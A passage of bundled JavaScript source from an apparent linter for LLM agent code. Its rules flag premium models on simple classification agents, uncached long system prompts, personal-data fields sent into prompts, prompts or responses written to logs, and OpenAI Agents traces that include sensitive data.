	return afterSlash.slice(afterSlash.lastIndexOf(":") + 1).trim().toLowerCase();
}
function premiumTier(model) {
	const bare = bareModelId(model);
	const tier = PREMIUM_MODELS.find((candidate) => candidate.pattern.test(bare));
	return tier ? {
		tier,
		bare
	} : void 0;
}
// src/rules/finops/premium-model-for-simple-task.ts
/** Words that name a narrow, single-shot job a small model does as well as a premium one. */
var SIMPLE_TASK = /\b(rout(?:e|er|ers|ing)|classif(?:y|ier|ies|ication|ying)|triag(?:e|er|ing)|intent(?:s)?|summar(?:y|ies|ise|ize|iser|izer|ising|izing|isation|ization)|extract(?:or|ion|ing)?|tagg(?:er|ing)|tagger|categori[sz](?:e|er|ation)|label(?:l?er|l?ing))\b/i;
function openingSentence(text) {
	const trimmed = text.trim();
	const end = trimmed.search(/[.!?\n]/);
	return (end === -1 ? trimmed : trimmed.slice(0, end)).slice(0, 200);
}
function simpleTaskWord(text) {
	for (const field of text.identity) {
		const match = SIMPLE_TASK.exec(field.replace(/[_-]/g, " "));
		if (match) return match[0].toLowerCase();
	}
	if (text.instruction) return SIMPLE_TASK.exec(openingSentence(text.instruction))?.[0].toLowerCase();
}
var PY_AGENTS = [
	{
		test: (q) => /^google\.adk(\.agents(\.llm_agent)?)?\.(Agent|LlmAgent)$/.test(q),
		framework: "ADK",
		model: (call) => keywordArgument(call, "model"),
		identity: ["name", "description"],
		instruction: ["instruction"]
	},
	{
		test: (q) => /^agents(\.agent)?\.Agent$/.test(q),
		framework: "OpenAI Agents",
		model: (call) => keywordArgument(call, "model"),
		identity: ["name", "handoff_description"],
		instruction: ["instructions"]
	},
	{
		test: (q) => /^crewai(\.agent)?\.Agent$/.test(q),
		framework: "CrewAI",
		model: (call) => {
			const llm = keywordArgument(call, "llm");
			return llm?.type === "call" ? keywordArgument(llm, "model") ?? positionalArguments(llm)[0] : llm;
		},
		identity: ["role", "goal"],
		instruction: ["backstory"]
	},
	{
		test: (q) => /^pydantic_ai(\.agent)?\.Agent$/.test(q),
		framework: "Pydantic AI",
		model: (call) => keywordArgument(call, "model") ?? positionalArguments(call)[0],
		identity: ["name"],
		instruction: ["instructions", "system_prompt"]
	}
];
var premiumModelForSimpleTaskCheck = defineRule({
	id: "finops/premium-model-for-simple-task",
	title: "Premium model on a routing, classification or extraction agent",
	description: "An agent whose name, description, role or opening instruction says its job is routing, classification, triage, intent detection, summarising, extraction or tagging runs on a premium model (gpt-4o, gpt-4.1, gpt-5, o1, o3, Claude Opus, Gemini Pro). These narrow tasks run as well on the small model of the same family at a fraction (often 1/10 to 1/20) of the price. Reads ADK, OpenAI Agents (Python and JS), CrewAI, Pydantic AI and Mastra agent constructors; both the model and the text must be literal strings.",
	persona: "finops",
	category: "finops",
	severity: "note",
	fixability: "one-click",
	tags: ["LLM10:2025"],
	remediation: "Switch the agent to the smaller model of the same family (the message names one) and keep the premium model for agents that plan or reason. Heal swaps the id inside the string literal (provider prefix and quotes kept); a model not written as one plain literal is structural.",
	docs: "https://platform.openai.com/docs/guides/model-selection",
	frameworks: [
		"google-adk",
		"openai-agents",
		"crewai",
		"pydantic-ai",
		"mastra"
	],
	precision: "medium",
	options: [{
		name: "allow_models",
		description: "Premium model ids the team accepts for these agents (e.g. one a contract or an evaluation requires), written bare: gpt-4o, gemini-2.5-pro.",
		schema: (z) => z.array(z.string().min(1)),
		default: []
	}]
}, {
	textHas: [/gpt-4o|gpt-4\.1|gpt-5|\bo[13]\b|o[13]-|opus|-pro/],
	async runOnTree(context, tree) {
		const { file } = context;
		const allowed = new Set(context.options["allow_models"].map(bareModelId));
		const consider = (framework, modelNode, modelText, text) => {
			if (!modelNode || modelText === void 0) return;
			const premium = premiumTier(modelText);
			if (!premium || allowed.has(premium.bare)) return;
			const word = simpleTaskWord(text);
			if (!word) return;
			const cheaper = premium.tier.cheaper(premium.bare);
			const healed = retiredModel(cheaper) ? void 0 : replaceModelIdInLiteral(file.text.slice(modelNode.startIndex, modelNode.endIndex), premium.bare, cheaper);
			context.report({
				...spanOf(modelNode),
				message: `${framework} agent for '${word}' runs on premium model '${premium.bare}'; a ${word} step is a narrow task that '${cheaper}' handles at a fraction of the cost.`,
				fingerprintContent: `${framework}|${premium.bare}|${word}|${text.identity[0] ?? ""}`,
				...healed !== void 0 ? { fix: {
					description: `model '${premium.bare}' → '${cheaper}'`,
					edits: [{
						start: modelNode.startIndex,
						end: modelNode.endIndex,
						text: healed
					}]
				} } : { fixability: "structural" }
			});
		};
		if (file.language === "python") {
			const imports = pythonImportMap(tree);
			for (const call of calls(tree)) {
				const shape = PY_AGENTS.find((candidate) => candidate.test(qualifiedCallee(call, imports)));
				if (!shape || hasDictSplat(call)) continue;
				const modelNode = shape.model(call);
				const identity = shape.identity.map((name) => pyLiteralText(keywordArgument(call, name))).filter((value) => !!value);
				const instructions = shape.instruction.map((name) => pyLiteralText(keywordArgument(call, name))).filter((value) => !!value);
				consider(shape.framework, modelNode, pyLiteralText(modelNode), {
					identity,
					instruction: instructions[0]
				});
			}
			return;
		}
		const imports = tsImportMap(tree);
		for (const call of callExpressions(tree)) {
			const qualified = tsQualifiedCallee(call, imports);
			const framework = /^@openai\/agents(-core)?#Agent(\.create)?$/.test(qualified) ? "OpenAI Agents" : /^@mastra\/core(\/agent)?#Agent$/.test(qualified) ? "Mastra" : void 0;
			if (!framework) continue;
			const options = tsOptions(call);
			if (!options || hasSpread(options)) continue;
			const modelNode = objectProperty(options, "model");
			const modelLiteral = modelNode?.type === "call_expression" ? tsArguments(modelNode)[0] : modelNode;
			const identity = [
				"name",
				"description",
				"handoffDescription"
			].map((name) => tsStringValue(objectProperty(options, name))).filter((value) => !!value);
			consider(framework, modelLiteral, tsStringValue(modelLiteral), {
				identity,
				instruction: tsStringValue(objectProperty(options, "instructions"))
			});
		}
	}
});
// src/rules/finops/static-prompt-without-caching.ts
/** ~6,000 characters is roughly 1,500 tokens: above the 1,024-token minimum every provider caches at, and big enough to matter. */
var LONG_STATIC_PROMPT_CHARS = 6e3;
/** A TS string literal, or a `const` bound to one in the same file. */
function tsResolveString(node, tree) {
	if (!node) return void 0;
	if (node.type === "identifier" || node.type === "shorthand_property_identifier") {
		const declarators = tree.rootNode.descendantsOfType("variable_declarator").filter((declarator) => declarator.childForFieldName("name")?.text === node.text);
		return declarators.length === 1 ? tsStringValue(declarators[0].childForFieldName("value") ?? void 0) : void 0;
	}
	return tsStringValue(node);
}
/** Text of Anthropic `system=[{"type": "text", "text": ...}]` blocks, when all are static. */
function pySystemBlocksText(node, tree) {
	if (node.type !== "list") return void 0;
	let text = "";
	for (const block of node.namedChildren) {
		if (block.type !== "dictionary") return void 0;
		for (const pair of block.namedChildren) if (pair.type === "pair" && pyLiteralText(pair.childForFieldName("key") ?? void 0) === "text") {
			const value = pyResolveString(pair.childForFieldName("value") ?? void 0, tree);
			if (value === void 0) return void 0;
			text += value;
		}
	}
	return text;
}
// src/rules/finops/index.ts
var FINOPS_CHECKS = [
	noOutputTokenCapCheck,
	premiumModelForSimpleTaskCheck,
	defineRule({
		id: "finops/static-prompt-without-caching",
		title: "Long static system prompt sent without prompt caching",
		description: `A static system prompt longer than ${LONG_STATIC_PROMPT_CHARS} characters (a few thousand tokens) is sent on every call to a provider that only discounts repeated input when you ask for it: Anthropic Messages (\`system=\` with no \`cache_control\` block) and Gemini through ADK or google-genai (no \`ContextCacheConfig\` on the App, no \`cached_content\`). Cached reads bill at 10-25% of the input price. OpenAI caches prompts automatically and is never flagged; Gemini 2.5 implicit caching is best-effort with no guaranteed hit.`,
		persona: "finops",
		category: "finops",
		severity: "note",
		fixability: "structural",
		tags: ["LLM10:2025"],
		remediation: "Anthropic: pass `system` as a list of text blocks and mark the static one with `\"cache_control\": {\"type\": \"ephemeral\"}`. ADK: wrap the agent in `App(..., context_cache_config=ContextCacheConfig(...))`. google-genai: create a cache with `client.caches.create` and pass `cached_content=` in GenerateContentConfig.",
		docs: "https://docs.anthropic.com/en/docs/build-with-claude/prompt-caching",
		frameworks: [
			"anthropic-sdk",
			"google-adk",
			"google-genai"
		],
		precision: "high"
	}, {
		appliesTo: (file) => file.text.length >= LONG_STATIC_PROMPT_CHARS,
		textHas: [/messages\.create|google\.adk|GenerateContentConfig/],
		textLacks: [/cache_control|cacheControl|ContextCacheConfig|context_cache_config|cached_content|cachedContent|caches\.create/],
		async runOnTree(context, tree) {
			const { file } = context;
			const report = (node, what, length, advice) => context.report({
				...spanOf(node),
				message: `${what} is a static ${length.toLocaleString("en-US")}-character system prompt sent without caching; ${advice}`,
				fingerprintContent: `${what}|${Math.round(length / 1e3)}k`
			});
			if (file.language === "python") {
				const imports = pythonImportMap(tree);
				const anthropic = pyImportsFrom(imports, ["anthropic"]);
				for (const call of calls(tree)) {
					const qualified = qualifiedCallee(call, imports);
					if (anthropic && /(^|\.)messages\.create$/.test(calleeText(call))) {
						const system = pyUnwrap(keywordArgument(call, "system"));
						if (!system) continue;
						const text = pyResolveString(system, tree) ?? pySystemBlocksText(system, tree);
						if (text !== void 0 && text.length > LONG_STATIC_PROMPT_CHARS) report(system, "messages.create(system=...)", text.length, "Anthropic bills it in full each time unless a block carries cache_control (cached reads cost 10% of input).");
					} else if (/^google\.adk(\.agents(\.llm_agent)?)?\.(Agent|LlmAgent)$/.test(qualified)) {
						if (!pyLiteralText(keywordArgument(call, "model"))?.startsWith("gemini")) continue;
						for (const key of ["instruction", "static_instruction"]) {
							const node = keywordArgument(call, key);
							const text = pyResolveString(node, tree);
							if (node && text !== void 0 && text.length > LONG_STATIC_PROMPT_CHARS) report(node, `ADK Agent ${key}=`, text.length, "ADK caches nothing unless the App sets context_cache_config=ContextCacheConfig(...), and Gemini implicit caching gives no guaranteed discount.");
						}
					} else if (/^google\.genai(\.types)?\.GenerateContentConfig$/.test(qualified)) {
						const node = keywordArgument(call, "system_instruction");
						const text = pyResolveString(node, tree);
						if (node && text !== void 0 && text.length > LONG_STATIC_PROMPT_CHARS) report(node, "GenerateContentConfig(system_instruction=...)", text.length, "without cached_content Gemini re-bills it on every request (implicit caching is best-effort).");
					}
				}
				return;
			}
			if (!tsImportsFrom(tsImportMap(tree), (module) => module === "@anthropic-ai/sdk")) return;
			for (const call of callExpressions(tree)) {
				if (call.type !== "call_expression" || !/(^|\.)messages\.create$/.test(call.childForFieldName("function")?.text ?? "")) continue;
				const system = objectProperty(tsOptions(call), "system");
				const text = tsResolveString(system, tree);
				if (system && text !== void 0 && text.length > LONG_STATIC_PROMPT_CHARS) report(system, "messages.create({ system })", text.length, "Anthropic bills it in full each time unless a block carries cache_control (cached reads cost 10% of input).");
			}
		}
	}),
	noUsageBudgetCheck
];
// src/rules/policy/pii-fields-to-model.ts
/** Field names that hold personal data. Matched on the last name segment, snake_cased. */
var PII_FIELD = /(^|_)(ssn|social_security(_number)?|dob|date_of_birth|birth_?date|credit_card(_number)?|card_number|cc_number|passport(_number|_no)?|phone(_number)?|mobile(_number)?|email(_address)?|address|street_address|home_address|iban|tax_id|national_id)$/;
/** Addresses that are not a person's. */
var NOT_PERSONAL = /(^|_)(ip|mac|server|host|web|base|url|memory|contract|wallet|sender|from|reply_to|support|noreply|no_reply|admin|system)_(address|email)$/;
function piiField(name) {
	const snake = nameWords(name).join("_");
	return PII_FIELD.test(snake) && !NOT_PERSONAL.test(snake) ? snake : void 0;
}
/** Calls that redact before the model sees the data. */
var REDACTION = /redact|mask|anonymi[sz]|presidio|scrub|pseudonymi[sz]|deidentif|de_identif|sanitiz|tokeniz_?pii|hash_pii/i;
/** The name an interpolated expression carries: `email`, `user.email`, `user["email"]`, `user.get("email")`. */
function pyExpressionField(expression) {
	if (expression.type === "identifier") return expression.text;
	if (expression.type === "attribute") return expression.childForFieldName("attribute")?.text;
	if (expression.type === "subscript") {
		const key = expression.childForFieldName("subscript");
		return key?.type === "string" ? key.text.replace(/^[rbuRBU]*['"]+|['"]+$/g, "") : void 0;
	}
	if (expression.type === "call") {
		const fn = expression.childForFieldName("function");
		const first = expression.childForFieldName("arguments")?.namedChildren[0];
		if (fn?.type === "attribute" && fn.childForFieldName("attribute")?.text === "get" && first?.type === "string") return first.text.replace(/^['"]+|['"]+$/g, "");
	}
}
function tsExpressionField(expression) {
	if (expression.type === "identifier") return expression.text;
	if (expression.type === "member_expression") return expression.childForFieldName("property")?.text;
	if (expression.type === "subscript_expression") {
		const key = expression.childForFieldName("index");
		return key?.type === "string" ? key.text.slice(1, -1) : void 0;
	}
}
/** Python model-facing calls: which ones send their arguments to a model. */
function pyModelCall(call, qualified) {
	const written = calleeText(call);
	if (/(completions\.create|responses\.create|messages\.create|generate_content(_async)?|send_message)$/.test(written)) return true;
	if (/^agents(\.run)?\.Runner\.run(_sync|_streamed)?$/.test(qualified)) return true;
	if (/(^|\.)(HumanMessage|SystemMessage|ChatMessage)$/.test(qualified) && /langchain/.test(qualified)) return true;
	if (/^google\.adk(\.agents(\.llm_agent)?)?\.(Agent|LlmAgent)$/.test(qualified)) return true;
	return /(^|\.)(invoke|ainvoke|stream|astream|run_sync|kickoff)$/.test(written) && /(llm|model|chat|agent|chain|graph|crew)/i.test(written);
}
function tsModelCall(call, qualified) {
	if (/^ai#(generateText|streamText|generateObject|streamObject)$/.test(qualified)) return true;
	if (/^@openai\/agents(-core)?#run$/.test(qualified)) return true;
	const written = tsCalleeText(call);
	if (/(completions\.create|responses\.create|messages\.create|generateContent)$/.test(written)) return true;
	return /(^|\.)(invoke|generate|stream)$/.test(written) && /(llm|model|chat|agent|chain|graph)/i.test(written);
}
var piiFieldsToModelCheck = defineRule({
	id: "policy/pii-fields-to-model",
	title: "Personal data fields interpolated into a model prompt",
	description: "A field named like personal data (ssn, date_of_birth, credit_card, card_number, passport, phone, email, address, iban, ...) is interpolated with an f-string or template literal into what a model call sends (messages, input, instruction(s), prompt, system, contents) and the function calls no redaction step (redact, mask, anonymize, Presidio, scrub). The provider then receives, and may log or retain, the raw value, and the model can repeat it to other users. Reads OpenAI, Anthropic, Gemini/ADK, LangChain, OpenAI Agents and AI SDK calls, following one local variable hop.",
	persona: "governance",
	category: "policy",
	severity: "warning",
	fixability: "structural",
	tags: ["LLM02:2025", "CWE-359"],
	remediation: "Send the model only what the task needs: replace personal values with tokens or masked forms (Presidio, a redact() helper) before building the prompt, and re-insert them after the model answers if the output must contain them.",
	docs: "https://genai.owasp.org/llmrisk/llm022025-sensitive-information-disclosure/",
	frameworks: [
		"openai-sdk",
		"anthropic-sdk",
		"google-genai",
		"google-adk",
		"langchain",
		"openai-agents",
		"vercel-ai-sdk"
	],
	precision: "medium"
}, {
	textHas: [/ssn|social_security|dob|birth|credit_card|card_?number|cardNumber|passport|phone|mobile|email|address|iban|tax_?id|national_?id/i],
	async runOnTree(context, tree) {
		const { file } = context;
		const python = file.language === "python";
		const seen = /* @__PURE__ */ new Set();
		const report = (template, field, callee) => {
			if (seen.has(template.startIndex)) return;
			seen.add(template.startIndex);
			context.report({
				...spanOf(template),
				message: `Personal field '${field}' is interpolated into the prompt sent by ${callee}(...) with no redaction in the function; the provider receives and may retain the raw value and the model can repeat it.`,
				fingerprintContent: `${callee}|${field}`
			});
		};
		if (python) {
			const imports = pythonImportMap(tree);
			if (!pyImportsFrom(imports, PY_LLM_MODULES)) return;
			for (const call of calls(tree)) {
				if (!pyModelCall(call, qualifiedCallee(call, imports))) continue;
				const scope = enclosingFunction(call) ?? tree.rootNode;
				if (calls(scope).some((inner) => REDACTION.test(calleeText(inner)))) continue;
				for (const template of pyTemplatesIn(call, scope, tree)) for (const interpolation of template.namedChildren.filter((child) => child.type === "interpolation")) {
					const expression = interpolation.childForFieldName("expression") ?? interpolation.namedChildren[0];
					const name = expression && pyExpressionField(expression);
					const field = name && piiField(name);
					if (field) report(template, field, calleeText(call));
				}
			}
			return;
		}
		const imports = tsImportMap(tree);
		if (!tsImportsFrom(imports, isTsLlmModule)) return;
		for (const call of callExpressions(tree)) {
			if (call.type !== "call_expression" || !tsModelCall(call, tsQualifiedCallee(call, imports))) continue;
			const scope = tsScope(call) ?? tree.rootNode;
			if (scope.descendantsOfType("call_expression").some((inner) => REDACTION.test(tsCalleeText(inner)))) continue;
			for (const template of tsTemplatesIn(call, scope)) for (const substitution of template.namedChildren.filter((child) => child.type === "template_substitution")) {
				const expression = substitution.namedChildren[0];
				const name = expression && tsExpressionField(expression);
				const field = name && piiField(name);
				if (field) report(template, field, tsCalleeText(call));
			}
		}
	}
});
/** f-strings in the call's arguments, plus f-strings assigned to a variable the call passes (one hop). */
function pyTemplatesIn(call, scope, tree) {
	const args = call.childForFieldName("arguments");
	if (!args) return [];
	const templates = args.descendantsOfType("string").filter((node) => node.namedChildren.some((child) => child.type === "interpolation"));
	for (const identifier of args.descendantsOfType("identifier")) {
		if (identifier.parent?.type === "keyword_argument" && identifier.parent.childForFieldName("name")?.id === identifier.id) continue;
		for (const value of pyAssignedValues(scope, identifier.text)) templates.push(...[value, ...value.descendantsOfType("string")].filter((node) => node.type === "string" && node.namedChildren.some((child) => child.type === "interpolation")));
	}
	return templates;
}
function tsScope(node) {
	for (let current = node.parent; current; current = current.parent) if (/^(function_declaration|function_expression|arrow_function|method_definition)$/.test(current.type)) return current;
}
function tsTemplatesIn(call, scope) {
	const args = call.childForFieldName("arguments");
	if (!args) return [];
	const isTemplate = (node) => node.type === "template_string" && node.namedChildren.some((child) => child.type === "template_substitution");
	const templates = args.descendantsOfType("template_string").filter(isTemplate);
	const names = new Set([...args.descendantsOfType(["identifier", "shorthand_property_identifier"])].map((node) => node.text));
	for (const declarator of scope.descendantsOfType("variable_declarator")) {
		const name = declarator.childForFieldName("name");
		const value = declarator.childForFieldName("value");
		if (name?.type === "identifier" && names.has(name.text) && value) templates.push(...[value, ...value.descendantsOfType("template_string")].filter(isTemplate));
	}
	return templates;
}
// src/rules/policy/prompt-or-messages-logged.ts
/** Variables that hold prompt or conversation text by name. */
var PROMPT_NAMES = /* @__PURE__ */ new Set([
	"prompt",
	"prompts",
	"messages",
	"system_prompt",
	"systemPrompt",
	"instructions",
	"user_input",
	"userInput",
	"user_prompt",
	"userPrompt",
	"completion",
	"full_prompt",
	"fullPrompt",
	"chat_history",
	"chatHistory",
	"user_message",
	"userMessage"
]);
/** System instructions by name: printing them shows the system prompt even in a CLI. */
var SYSTEM_PROMPT_NAMES = /* @__PURE__ */ new Set([
	"system_prompt",
	"systemPrompt",
	"instructions"
]);
/** Python web and app servers: in their processes stdout is the server log. */
var PY_SERVER_MODULES = [
	"fastapi",
	"flask",
	"starlette",
	"django",
	"aiohttp",
	"sanic",
	"tornado",
	"litestar",
	"quart",
	"streamlit",
	"gradio",
	"chainlit"
];
/** A script run from a terminal: its print() answers the person at the keyboard. */
var MAIN_GUARD = /^if\s+__name__\s*==\s*['"]__main__['"]\s*:/m;
/** Attributes that are metadata, not content: logging `completion.usage` or `response.id` is fine. */
var METADATA_ATTRIBUTES = /^(id|usage|model|created|object|finish_reason|finishReason|status|type|role|name|description|title|tokens|total_tokens|totalTokens|prompt_tokens|promptTokens|completion_tokens|completionTokens|input_tokens|output_tokens|length|count|response_id|system_fingerprint)$/;
/** Wrappers whose result says nothing about the content. */
var SAFE_WRAPPERS = /^(len|type|id|hash|bool|isinstance|count|sizeof|Boolean|typeof)$/;
/** Model output by name: printing it is how a CLI answers, so `print` of these is not flagged (loggers are). */
var OUTPUT_NAMES = /* @__PURE__ */ new Set(["completion"]);
/** Expression shapes that are model output whatever the variable is called. */
var OUTPUT_SHAPES = /\.choices\[[^\]]*\](\.message(\.content)?)?$|\.final_output$|\.output_text$/;
var PY_LOG_METHODS = /^(debug|info|warning|warn|error|exception|critical|log)$/;
var TS_LOG_METHODS = /^(log|info|debug|warn|error|trace)$/;
function isLoggerReceiver(text) {
	return /^(logging|console)$/.test(text) || /(^|\.|_)(log|logger|logs|_logger|LOGGER|LOG|log_)$/i.test(text) || /logger$/i.test(text);
}
/**
* Past this many levels below the log argument the expression is generated code; each `parent` step costs
* tree-sitter a walk down from the root, so following a 30,000-deep chain up took seconds per identifier.
*/
var MAX_ARGUMENT_DEPTH = 256;
/** What of a sensitive kind the node leaks, following it up to the argument root (undefined when unknown). */
function leaked(identifier, root, pyLike) {
	let node = identifier;
	let described = identifier.text;
	for (let depth = 0; node.id !== root.id; depth++) {
		if (depth >= MAX_ARGUMENT_DEPTH) return void 0;
		const parent = node.parent;
		if (!parent) break;
		const member = pyLike ? parent.type === "attribute" : parent.type === "member_expression";
		const subscript = pyLike ? parent.type === "subscript" : parent.type === "subscript_expression";
		if (member) {
			const property = parent.childForFieldName(pyLike ? "attribute" : "property")?.text ?? "";
			if (parent.childForFieldName("object")?.id !== node.id) return void 0;
			if (METADATA_ATTRIBUTES.test(property)) return void 0;
			described = `${described}.${property}`;
		} else if (subscript) {
			if ((parent.childForFieldName(pyLike ? "value" : "object")?.id ?? -1) !== node.id) return void 0;
			described = `${described}[...]`;
		} else if (parent.type === "argument_list" || parent.type === "arguments") {
			const call = parent.parent;
			const fn = call?.childForFieldName("function")?.text ?? "";
			if (call && SAFE_WRAPPERS.test(fn.slice(fn.lastIndexOf(".") + 1))) return void 0;
		} else if (parent.type === "unary_expression" && parent.text.startsWith("typeof")) return;
		node = parent;
	}
	return described;
}
var promptOrMessagesLoggedCheck = defineRule({
	id: "policy/prompt-or-messages-logged",
	title: "Prompt, conversation or model response written to logs",
	description: "A log or print call in agent code writes a prompt, the message list, system instructions, user input or the model response (variables named prompt/messages/system_prompt/instructions/user_input/completion, response.choices[...], result.final_output). Logs are retained, shipped to third parties and read by people who may not see user data, and they leak the system prompt. Lengths, ids, usage and other metadata are not flagged, nor are test files or modules that use no model SDK; print() of the model answer (final_output, choices, completion) is how a CLI replies and is not flagged. print() of the user's prompt or the messages is flagged only where stdout is a log: not in a script run from a terminal (an `if __name__ == \"__main__\":` module that imports no web or app server), where it echoes the user's own text back to them; print() of system instructions (system_prompt, instructions) is flagged everywhere.",
	persona: "governance",
	category: "policy",
	severity: "warning",
	fixability: "structural",
	tags: [
		"LLM02:2025",
		"LLM07:2025",
		"CWE-532"
	],
	remediation: "Log metadata instead (ids, token counts, lengths, latency), or send content to a trace store with access control and retention; if content must be logged, redact it first and guard it behind a debug setting that is off in production.",
	docs: "https://cwe.mitre.org/data/definitions/532.html",
	frameworks: [],
	precision: "high"
}, {
	textHas: [/print|log|console/, /prompt|messages|instructions|user_?input|userInput|completion|choices|final_output|output_text|history|user_?message/i],
	async runOnTree(context, tree) {
		const { file } = context;
		const python = file.language === "python";
		if (python ? !pyImportsFrom(pythonImportMap(tree), PY_LLM_MODULES) : !tsImportsFrom(tsImportMap(tree), isTsLlmModule)) return;
		const printIsEcho = python && MAIN_GUARD.test(file.text) && !pyImportsFrom(pythonImportMap(tree), PY_SERVER_MODULES);
		for (const call of python ? calls(tree) : callExpressions(tree)) {
			if (!python && call.type !== "call_expression") continue;
			const callee = python ? calleeText(call) : tsCalleeText(call);
			const dot = callee.lastIndexOf(".");
			if (!(python ? callee === "print" || dot > 0 && PY_LOG_METHODS.test(callee.slice(dot + 1)) && isLoggerReceiver(callee.slice(0, dot)) : dot > 0 && TS_LOG_METHODS.test(callee.slice(dot + 1)) && isLoggerReceiver(callee.slice(0, dot)))) continue;
			const args = python ? call.childForFieldName("arguments")?.namedChildren ?? [] : tsArguments(call);
			let found;
			for (const argument of args) {
				const value = argument.type === "keyword_argument" ? void 0 : argument;
				if (!value) continue;
				const candidates = [value, ...value.descendantsOfType(python ? [
					"identifier",
					"attribute",
					"subscript"
				] : [
					"identifier",
					"member_expression",
					"subscript_expression"
				])];
				for (const candidate of candidates) {
					const compact = candidate.text.replace(/\s+|\?/g, "");
					const printing = callee === "print";
					if (!printing && candidate.type !== "identifier" && OUTPUT_SHAPES.test(compact)) {
						const base = candidate.descendantsOfType("identifier")[0];
						if (base && leaked(base, value, python) !== void 0) found = compact.length > 50 ? `${compact.slice(0, 47)}...` : compact;
					} else if (candidate.type === "identifier" && PROMPT_NAMES.has(candidate.text) && !(printing && OUTPUT_NAMES.has(candidate.text)) && !(printing && printIsEcho && !SYSTEM_PROMPT_NAMES.has(candidate.text))) found = leaked(candidate, value, python);
					if (found) break;
				}
				if (found) break;
			}
			if (!found) continue;
			context.report({
				...spanOf(call),
				message: `${callee}(...) writes '${found}' to the log; prompts and model text in logs leak user data and the system prompt to everyone with log access.`,
				fingerprintContent: `${callee}|${found}`
			});
		}
	}
});
// src/heal/edits.ts
/** Replaces a node's text: `max_retries=0` → `max_retries=2`, `True` → `False`. */
function replaceNode(node, replacement) {
	return {
		start: node.startIndex,
		end: node.endIndex,
		text: replacement
	};
}
// src/rules/policy/model-route.ts
/**
* Where an OpenAI Agents SDK module sends its model calls, as far as the module itself says. The SDK's
* built-in trace exporter always ships spans to OpenAI (platform.openai.com/traces), whatever serves the
* model. With an OpenAI-hosted model the traces stay with the provider that already processed every
* prompt; with any other route they are a second destination for the same data. Both tracing rules ask
* this one question, so they cannot disagree about it.
*/
/** `litellm/anthropic/claude-…`, `any-llm/openrouter/…`: the SDK's prefix routing (MultiProvider). */
var PREFIX_ROUTE = /^(litellm|any-llm)\/([^/]+)\//;
/** A base_url that is still OpenAI's own API is not another route. */
var OPENAI_HOST = /^https?:\/\/api\.openai\.com(\/|$)/;
/** The first construct in the module that sends model calls somewhere other than OpenAI, described for a message. */
function pyNonOpenAiModelRoute(tree, imports) {
	for (const call of calls(tree)) {
		const qualified = qualifiedCallee(call, imports);
		if (/^openai\.(AsyncAzureOpenAI|AzureOpenAI)$/.test(qualified)) return `${qualified.slice(7)}(...)`;
		if (/^openai\.(AsyncOpenAI|OpenAI)$/.test(qualified)) {
			const baseUrl = keywordArgument(call, "base_url");
			if (!baseUrl || baseUrl.type === "none") continue;
			const literal = pyResolveString(baseUrl, tree);
			if (literal !== void 0 && OPENAI_HOST.test(literal)) continue;
			return `${qualified.slice(7)}(base_url=${literal !== void 0 ? JSON.stringify(literal) : baseUrl.text})`;
		}
		if (/^agents(\.extensions\.models\.[a-z_]+)?\.(LitellmModel|AnyLLMModel)$/.test(qualified)) return qualified.slice(qualified.lastIndexOf(".") + 1);
		const model = stringValue(keywordArgument(call, "model"));
		const prefix = model ? PREFIX_ROUTE.exec(model) : null;
		if (prefix && prefix[2] !== "openai" && /^agents(\.agent)?\.Agent$/.test(qualified)) return `model "${model}"`;
	}
}
// src/rules/policy/sensitive-tracing-enabled.ts
var ENV_SETTING = "OPENAI_AGENTS_TRACE_INCLUDE_SENSITIVE_DATA";
/** Anything in the module that already decides what traces carry, or that no trace is exported. */
var TRACE_DECIDED = new RegExp([
	ENV_SETTING,
	"trace_include_sensitive_data",
	"set_tracing_disabled",
	"tracing_disabled",
	"OPENAI_AGENTS_DISABLE_TRACING",
	"set_trace_processors"
].join("|"));
var sensitiveTracingEnabledCheck = defineRule({
	id: "policy/sensitive-tracing-enabled",
	title: "Agent traces include model and tool inputs and outputs",
	description: `The OpenAI Agents SDK records model inputs/outputs and tool arguments/results in its traces and exports them to the OpenAI traces dashboard: RunConfig.trace_include_sensitive_data defaults to True (env ${ENV_SETTING}). The rule fires where code sets trace_include_sensitive_data=True (Python) or traceIncludeSensitiveData: true (JS) explicitly, and once per module at the first Runner.run/run_sync/run_streamed when the module serves its model outside OpenAI (AsyncOpenAI/OpenAI with a non-OpenAI base_url, Azure OpenAI, LitellmModel, AnyLLMModel, a litellm/ or any-llm/ model prefix) and nothing in it decides the setting (no RunConfig setting, no env var, tracing not disabled, no replacement trace processors): the traces then carry prompts to OpenAI, a service the model calls never reach. The default alone with an OpenAI-hosted model is not flagged: the traces go to the same OpenAI organisation that already processes every prompt, the SDK documents the default for development and production, and flagging it fired on every module that runs an agent. A deployment-level env var cannot be seen from code: suppress with a reason if it is set there.`,
	persona: "governance",
	category: "policy",
	severity: "warning",
	fixability: "one-click",
	tags: [
		"LLM02:2025",
		"CWE-532",
		"CWE-359"
	],
	remediation: `Pass run_config=RunConfig(trace_include_sensitive_data=False) (JS: traceIncludeSensitiveData: false) or set ${ENV_SETTING}=0 before the app starts; spans still record timing, tokens and errors. Heal turns explicit True/true into False/false and adds run_config=RunConfig(trace_include_sensitive_data=False) to a Runner.run* call that passes no run_config; a call that passes a run_config built elsewhere is structural.`,
	docs: "https://openai.github.io/openai-agents-python/tracing/#sensitive-data",
	frameworks: ["openai-agents"],
	precision: "high"
}, {
	textHas: [/Runner|RunConfig|trace_include_sensitive_data|traceIncludeSensitiveData/],
	async runOnTree(context, tree) {
		const { file } = context;
		const explicit = (value, written, safe) => context.report({
			start: (value.parent ?? value).startIndex,
			end: (value.parent ?? value).endIndex,
			message: `${written} exports prompts, model outputs and tool arguments to the trace backend; set it to False unless traces are access-controlled like production data.`,
			fingerprintContent: `explicit|${written}`,
			fix: {
				description: `${written.replace(/True|true/, safe)}`,
				edits: [replaceNode(value, safe)]
			}
		});
		if (file.language === "python") {
			const imports = pythonImportMap(tree);
			let firstRun;
			for (const call of calls(tree)) {
				const qualified = qualifiedCallee(call, imports);
				if (/^agents(\.run|\.voice(\.pipeline_config)?)?\.(RunConfig|VoicePipelineConfig)$/.test(qualified)) {
					const value = keywordArgument(call, "trace_include_sensitive_data");
					if (value?.type === "true") explicit(value, "trace_include_sensitive_data=True", "False");
				} else if (/^agents(\.run)?\.Runner\.run(_sync|_streamed)?$/.test(qualified)) firstRun ??= call;
			}
			const route = firstRun && !TRACE_DECIDED.test(file.text) ? pyNonOpenAiModelRoute(tree, imports) : void 0;
			if (firstRun && route) {
				const edit = keywordArgument(firstRun, "run_config") === void 0 && !hasDictSplat(firstRun) ? addKeywordArgument(firstRun, file.text, "run_config", "RunConfig(trace_include_sensitive_data=False)") : void 0;
				context.report({
